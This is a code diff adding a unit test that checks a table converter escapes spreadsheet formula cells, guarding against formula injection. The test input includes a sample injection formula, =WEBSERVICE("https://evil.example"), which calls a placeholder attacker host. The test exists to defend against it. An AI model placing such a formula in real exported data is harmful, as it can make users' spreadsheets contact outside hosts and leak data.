@@ -272,3 +272,13 @@ function spaced(blocks: readonly Block[]): unknown {
   );
   return JSON.parse(text);
 }
+
+test('no cell is a formula to a spreadsheet, and numbers stay numbers', () => {
+  const table = read('| a | b |\n|---|---|\n| =WEBSERVICE("https://evil.example") | **=A1** |\n| -1.5 % | +A1 |\n');
+  expect(toPlainText(table).split('\n').slice(1)).toEqual([
+    `'=WEBSERVICE("https://evil.example")\t'=A1`,
+    "-1.5 %\t'+A1",
+  ]);
+  const cells = [...parse(toHtml(table)).querySelectorAll('td')].map((cell) => cell.textContent);
+  expect(cells).toEqual([`'=WEBSERVICE("https://evil.example")`, "'=A1", '-1.5 %', "'+A1"]);
+});
